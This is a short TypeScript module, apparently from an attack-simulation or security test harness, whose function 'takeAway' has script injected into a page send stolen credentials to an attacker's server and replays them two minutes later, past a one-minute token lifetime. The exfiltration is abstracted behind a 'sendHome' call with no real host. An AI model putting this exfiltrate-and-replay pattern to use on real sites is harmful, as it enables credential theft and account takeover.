/** What script in the page got leaves it, and is used on another machine. */
import type { Hands, InjectedPage } from './attack';
import { breakIn } from './break-in';
import type { Stolen } from './stolen';

/** Seconds between the theft and the use: longer than a token of one minute lives. */
const LATER = 2 * 60;

/** Sends the credentials to the attacker's server, and uses them two minutes later. */
export const takeAway = async (
  hands: Hands,
  page: Pick<InjectedPage, 'sendHome'>,
  stolen: readonly Stolen[],
): Promise<void> => {
  if (stolen.length > 0) {
    await page.sendHome(JSON.stringify(stolen));
    hands.wait(LATER);
  }
  await breakIn(hands, stolen);
};
